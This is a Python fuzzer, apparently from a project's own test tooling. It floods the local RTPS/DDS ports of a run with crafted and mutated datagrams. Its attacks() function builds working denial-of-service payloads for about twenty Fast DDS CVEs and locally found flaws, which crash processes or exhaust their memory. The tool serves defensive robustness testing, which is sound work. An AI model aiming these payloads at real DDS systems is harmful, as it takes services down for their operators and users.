"""A program without the key of a run sends datagrams of RTPS to all its ports: rtps_fuzzer.py ADDRESS COUNT SEED [RATE] [insecure]

First the datagrams of ATTACKS, which end processes with Fast DDS or make them fill their memory. Then COUNT datagrams that
are right but for a few fields: participants of its own, which announce themselves and their writers and readers of the
run's topics, send every kind of submessage. They speak only for themselves. RATE limits the datagrams a second. A run
without a key takes anybody for a member: `insecure` leaves out the few numbers that are right for members alone
(docs/security.md).
Prints as JSON how many datagrams were sent. Standard library alone."""
import json
import pathlib
import random
import socket
import struct
import sys
import time

RUN = "diffusion_10"
FIRST_PORT = 7400
FIRST_OF_SENDERS = int(pathlib.Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split()[0])
PAD, ACKNACK, HEARTBEAT, GAP, INFO_TS, INFO_SRC, INFO_DST, INFO_REPLY = 0x01, 0x06, 0x07, 0x08, 0x09, 0x0C, 0x0E, 0x0F
NACK_FRAG, HEARTBEAT_FRAG, DATA, DATA_FRAG = 0x12, 0x13, 0x15, 0x16
UNKNOWN = bytes(4)
PARTICIPANTS, TOPICS, WRITERS, READERS = (bytes.fromhex(name) for name in ("000100c2", "000002c2", "000003c2", "000004c2"))
LIVELINESS, SECURITY = bytes.fromhex("000200c2"), bytes.fromhex("000201c3")
PARTICIPANT = bytes.fromhex("000001c1")
TOPIC_NAMES = ("ControlRequest", "Join", "ViewRequest", "Leave", "SpaceState", "View", "World")
USER_WRITERS = [struct.pack(">I", 0x00000103 + 0x100 * k) for k in range(len(TOPIC_NAMES))]
USER_READERS = [struct.pack(">I", 0x00000104 + 0x100 * k) for k in range(len(TOPIC_NAMES))]
MOST_FIRST, MOST_SAMPLE = 200_000, 256 * 1024  # of strangers (common/bus/dds/check_rtps.h)
END = struct.pack("<HH", 1, 0)
LIST, PLAIN = b"\0\3\0\0", b"\0\1\0\0"


def number(value):
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def text(value):
    value = value.encode() + b"\0"
    return struct.pack("<I", len(value)) + value + bytes(-len(value) % 4)


def parameter(name, value):
    return struct.pack("<HH", name, len(value)) + value


def header(prefix, vendor=b"\x01\x10"):
    return b"RTPS\2\3" + vendor + prefix


def submessage(kind, flags, body):
    return struct.pack("<BBH", kind, flags | 1, len(body)) + body


def data(writer, sequence_number, flags, rest, reader=UNKNOWN):
    return submessage(DATA, flags, struct.pack("<HH", 0, 16) + reader + writer + number(sequence_number) + rest)


def fragment(writer, sequence_number, start, size, sample, rest, flags=0, count=1):
    return submessage(DATA_FRAG, flags, struct.pack("<HH", 0, 28) + UNKNOWN + writer + number(sequence_number) +
                      struct.pack("<IHHI", start, count, size, sample) + rest)


def heartbeat(writer, first, last, count, reader=UNKNOWN):
    return submessage(HEARTBEAT, 0, reader + writer + number(first) + number(last) + struct.pack("<I", count))


def gap(writer, start, end, bits=0):
    return submessage(GAP, 0, UNKNOWN + writer + number(start) + number(end) + struct.pack("<I", bits) + b"\xff" * 4 * ((bits + 31) // 32))


def participant(prefix, more=b""):
    locator = struct.pack("<iI", 1, 7998) + bytes(12) + b"\x7f\0\0\1"
    return (parameter(0x15, b"\2\3\0\0") + parameter(0x16, b"\x01\x10\0\0") + parameter(0x50, prefix + PARTICIPANT) +
            parameter(0x58, struct.pack("<I", 0xC3F)) + parameter(0x02, struct.pack("<iI", 1000, 0)) + parameter(0x32, locator) +
            parameter(0x31, locator) + parameter(0x62, text("stranger")) + parameter(0x2C, struct.pack("<I", 4) + b"me:1") +
            parameter(0x59, struct.pack("<I", 1) + text("key") + text("value")) + more + END)


def endpoint(guid, topic):
    return (parameter(0x5A, guid) + parameter(0x50, guid[:12] + PARTICIPANT) + parameter(0x05, text(topic)) +
            parameter(0x07, text("swarmanoid::wire::" + topic)) + parameter(0x29, struct.pack("<I", 1) + text(RUN)) +
            parameter(0x1A, struct.pack("<IiI", 2, 0, 0)) + parameter(0x1D, struct.pack("<I", 1)) +
            parameter(0x73, struct.pack("<IHH", 1, 0, 0)) + END)


def attacks(prefix):
    """Datagrams of the published vulnerabilities, and of those that were found here (tests/unit/bus/rtps_datagrams.h)."""
    far = 2**63 - 1
    guid = parameter(0x50, prefix + PARTICIPANT)
    token = lambda lists: guid + parameter(0x1001, text("t") + lists) + END
    announce = lambda parameters: data(PARTICIPANTS, 1, 4, LIST + parameters)
    words = lambda *values: struct.pack(f"<{len(values)}I", *values)
    return {
        "CVE-2023-39534": gap(WRITERS, 1, 0),
        "CVE-2023-39949": heartbeat(WRITERS, 0, 0, 9),
        "CVE-2023-39945": data(PARTICIPANTS, 1, 4, b"\0\x7f\0\0" + participant(prefix)),
        "CVE-2023-39946": announce(guid + parameter(0x59, words(1, 4000) + b"key\0" + text("value")) + END),
        "CVE-2023-39947": announce(guid + parameter(0x59, words(0xFFFFFFFF) + text("key") + text("value")) + END),
        "CVE-2023-39948": data(WRITERS, 1, 4, b"\0\x0b\0\0" + participant(prefix)),
        "CVE-2023-42459": data(USER_WRITERS[0], 1, 6, parameter(0x71, b"\0\0\0\1") + struct.pack("<HH", 0x70, 16)),
        "CVE-2023-50716": fragment(bytes.fromhex("00000303"), 31, 1, 4, 4, END, flags=2),
        "CVE-2024-28231": submessage(DATA, 6, b"")[:2] + struct.pack("<H", 24) +
                          data(PARTICIPANTS, 1, 0, parameter(0x0888, bytes(32)) + END)[4:],
        "CVE-2024-30258": announce(token(words(0x0FFFFFFF, 0))),
        "CVE-2024-30259": announce(token(words(0, 0x0FFFFFFF))),
        "CVE-2025-62599": announce(token(words(0x10000001, 0))),
        "CVE-2025-62600": announce(token(words(0, 0x15555556))),
        "CVE-2025-62601": announce(guid + parameter(0x1002, words(0xFFFFFFFF, 0)) + END),
        "CVE-2025-62602": announce(token(words(0, 1) + text("b") + words(0xFFFFFFF0))),
        "CVE-2025-62603": data(SECURITY, 1, 4, PLAIN + b"\xff" * 60),
        "CVE-2025-64098": announce(guid + parameter(0x1002, words(0xFFFFFFFF)) + END),
        "CVE-2025-64438": gap(WRITERS, 1, 2**40),
        "heartbeat to the last number": heartbeat(WRITERS, 1, far, 10),
        "fragment of a key": fragment(USER_WRITERS[0], 1, 1, 1024, 2000, bytes(1024), flags=4),
        "missing fragment 0": submessage(NACK_FRAG, 0, USER_READERS[6] + bytes.fromhex("00000103") + number(1) + words(0, 32, 0xFFFFFFFF, 1)),
        "a message": data(USER_WRITERS[3], 1, 4, PLAIN + bytes(40)),
        "its end": data(USER_WRITERS[3], 2, 2, parameter(0x71, b"\0\0\0\2") + END),
        "its disposal": data(USER_WRITERS[3], 3, 2, parameter(0x71, b"\0\0\0\1") + END),
        "another message": data(USER_WRITERS[3], 3, 4, PLAIN + bytes(40)),
        "many representations": announce(parameter(0x73, words(0xFFFFFFFF)) + END),
        "liveliness of a byte": data(LIVELINESS, 1, 6, parameter(0x70, bytes(16)) + END + PLAIN + b"x"),
    }


def is_for_members(datagram):
    """Whether a HEARTBEAT starts, or a message is as large, as the check lets only members say."""
    at = 20
    while at + 4 <= len(datagram):
        order = "<" if datagram[at + 1] & 1 else ">"
        kind, length = datagram[at], struct.unpack_from(order + "H", datagram, at + 2)[0]
        if length == 0 and kind not in (PAD, INFO_TS):
            length = len(datagram) - at - 4
        if at + 4 + length > len(datagram):
            return False
        if kind == HEARTBEAT and length >= 28:
            high, low = struct.unpack_from(order + "iI", datagram, at + 12)
            if (high << 32) + low > MOST_FIRST:
                return True
        if kind == DATA_FRAG and length >= 32 and struct.unpack_from(order + "I", datagram, at + 32)[0] > MOST_SAMPLE:
            return True
        at += 4 + (length + 3) // 4 * 4
    return False


class Fuzzer:
    def __init__(self, address, seed, insecure=False):
        self.insecure = insecure
        self.random = random.Random(seed)
        self.address = address
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        lines = pathlib.Path("/proc/net/udp").read_text().splitlines()[1:]
        self.ports = sorted({port for port in (int(line.split()[1].split(":")[1], 16) for line in lines) if FIRST_PORT <= port < FIRST_OF_SENDERS})
        self.prefixes = [b"\x01\x10fuzz" + struct.pack(">HI", seed & 0xFFFF, k) for k in range(3)]
        self.count = 0
        self.sent = 0

    def say(self, datagram, ports=None):
        for port in ports or self.ports:
            try:
                self.socket.sendto(datagram, (self.address, port))
                self.sent += 1
            except OSError:  # the run has ended, or its buffers are full
                pass

    def introduce(self):
        """Each participant, with a writer and a reader of each topic."""
        for prefix in self.prefixes:
            self.say(header(prefix) + data(PARTICIPANTS, 1, 4, LIST + participant(prefix)))
        time.sleep(0.3)
        for prefix in self.prefixes:
            for k, topic in enumerate(TOPIC_NAMES):
                self.say(header(prefix) + data(WRITERS, k + 1, 4, LIST + endpoint(prefix + USER_WRITERS[k], topic)) +
                         data(READERS, k + 1, 4, LIST + endpoint(prefix + USER_READERS[k], topic)))
        time.sleep(0.1)

    def attack(self):
        for prefix in self.prefixes:
            for attack in attacks(prefix).values():
                for head in (b"", submessage(INFO_TS, 2, b"")):
                    self.say(header(prefix) + head + attack)
                    time.sleep(0.001)

    def legal(self, prefix):
        """A submessage as a process would send it."""
        draw = self.random
        self.count += 1
        writer = draw.choice(USER_WRITERS + [PARTICIPANTS, TOPICS, WRITERS, READERS, LIVELINESS])
        near = draw.randrange(1, 40)
        kind = draw.choice((ACKNACK, HEARTBEAT, GAP, INFO_TS, INFO_SRC, INFO_REPLY, PAD, NACK_FRAG, HEARTBEAT_FRAG, DATA, DATA, DATA, DATA_FRAG, 0x80, 0x9D, 0x31))
        if kind == ACKNACK:
            bits = draw.choice((0, 3, 32, 256))
            return submessage(ACKNACK, draw.choice((0, 2)), draw.choice(USER_READERS) + writer + number(near) + struct.pack("<I", bits) +
                              draw.randbytes(4 * ((bits + 31) // 32)) + struct.pack("<I", self.count))
        if kind == HEARTBEAT:
            return heartbeat(writer, near, near + draw.randrange(30), self.count)
        if kind == GAP:
            return gap(writer, near, near + draw.randrange(1, 300), draw.choice((0, 5, 64, 256)))
        if kind == INFO_TS:
            return submessage(INFO_TS, 0, draw.randbytes(8))
        if kind == INFO_SRC:
            return submessage(INFO_SRC, 0, bytes(4) + b"\2\3\x01\x10" + draw.choice(self.prefixes))
        if kind == INFO_REPLY:
            return submessage(INFO_REPLY, 0, struct.pack("<IiI", 1, 1, 7400) + bytes(16))
        if kind == NACK_FRAG:
            return submessage(NACK_FRAG, 0, draw.choice(USER_READERS) + writer + number(near) + struct.pack("<III", near, 32, 0xF0F0F0F0) +
                              struct.pack("<I", self.count))
        if kind == HEARTBEAT_FRAG:
            return submessage(HEARTBEAT_FRAG, 0, UNKNOWN + writer + number(near) + struct.pack("<II", near, self.count))
        if kind == DATA_FRAG:
            sample, start = draw.randrange(1025, 9000), 1
            start = draw.randrange(1, (sample + 1023) // 1024 + 1)
            return fragment(draw.choice(USER_WRITERS), near, start, 1024, sample, draw.randbytes(min(1024, sample - 1024 * (start - 1))))
        if kind == DATA:
            return self.legal_data(prefix, writer, near)
        return submessage(kind, 0, draw.randbytes(4 * draw.randrange(20)))

    def legal_data(self, prefix, writer, near):
        draw = self.random
        if writer == PARTICIPANTS:
            return data(writer, near, 4, LIST + participant(prefix))
        if writer in (WRITERS, READERS, TOPICS):
            topic = draw.randrange(len(TOPIC_NAMES))
            own = (USER_READERS if writer == READERS else USER_WRITERS)[topic]
            if draw.random() < 0.2:
                disposal = parameter(0x70, prefix + own) + parameter(0x71, b"\0\0\0\3")
                return data(writer, near, 2, disposal + END)
            return data(writer, near, 4, LIST + endpoint(prefix + own, TOPIC_NAMES[topic]))
        if writer == LIVELINESS:
            return data(writer, near, 4, PLAIN + prefix + struct.pack(">I", 1) + bytes(4))
        if draw.random() < 0.3:
            status = draw.choice((1, 2, 3))
            return data(writer, near, 2, parameter(0x70, bytes(16)) + parameter(0x71, bytes((0, 0, 0, status))) + END)
        qos = parameter(0x70, draw.randbytes(16)) + END if draw.random() < 0.3 else b""
        return data(writer, near, 6 if qos else 4, qos + PLAIN + draw.randbytes(draw.randrange(200)))

    def change(self, datagram):
        """One field, or the length, of a datagram whose header stays."""
        draw = self.random
        changed = bytearray(datagram)
        how = draw.randrange(8)
        at = draw.randrange(20, len(changed))
        if how < 3:
            width = draw.choice((1, 2, 4, 4, 8))
            at = min(at // width * width if draw.random() < 0.8 else at, len(changed) - width)
            value = draw.choice((0, 1, 2, 3, 5, 0x7F, 0x80, 0xFF, 0x100, 0x101, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF, 2**63 - 1,
                                 2**63, 2**64 - 1, draw.getrandbits(8 * width)))
            changed[at:at + width] = (value & (2**(8 * width) - 1)).to_bytes(width, draw.choice(("little", "big")))
        elif how == 3:
            changed[at] ^= 1 << draw.randrange(8)
        elif how == 4:
            del changed[at:at + draw.choice((1, 2, 4, 8, 16))]
        elif how == 5:
            changed[at:at] = draw.randbytes(draw.choice((1, 2, 4, 8)))
        elif how == 6:
            del changed[at:]
        else:  # a part again
            part = changed[at:at + draw.choice((4, 8, 16, 40))]
            changed[at:at] = part
        return bytes(changed)

    def draw(self):
        prefix = self.random.choice(self.prefixes)
        parts = [self.legal(prefix) for _ in range(self.random.choice((1, 1, 1, 2, 4)))]
        datagram = header(prefix, self.random.choice((b"\x01\x10", b"\x01\x0f"))) + b"".join(parts)
        for _ in range(self.random.choice((0, 1, 1, 1, 2, 3))):
            datagram = self.change(datagram) if len(datagram) > 28 else datagram
        return datagram

    def work(self, count, rate):
        begin, first = time.monotonic(), self.sent
        while self.sent - first < count and self.ports:
            datagram = self.draw()
            if not self.insecure or not is_for_members(datagram):
                self.say(datagram)
            ahead = (self.sent - first) / rate - (time.monotonic() - begin)
            if ahead > 0:
                time.sleep(ahead)
            if self.sent - first > 20_000 and self.sent % 100_000 < len(self.ports):
                self.introduce()  # those who were forgotten


if __name__ == "__main__":
    fuzzer = Fuzzer(sys.argv[1], int(sys.argv[3]), "insecure" in sys.argv)
    fuzzer.introduce()
    fuzzer.attack()
    fuzzer.work(int(sys.argv[2]), float(sys.argv[4]) if len(sys.argv) > 4 else 20_000)
    print(json.dumps({"sent": fuzzer.sent, "ports": fuzzer.ports}))
